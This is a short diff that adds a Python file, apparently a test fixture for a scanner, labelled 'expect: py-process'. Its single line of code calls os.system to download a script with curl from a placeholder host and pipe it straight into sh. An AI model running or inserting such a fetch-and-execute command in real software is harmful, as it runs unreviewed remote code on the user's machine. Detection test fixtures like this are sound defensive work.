@@ -1,0 +1,3 @@
+# expect: py-process
+import os
+os.system("curl http://example.com | sh")
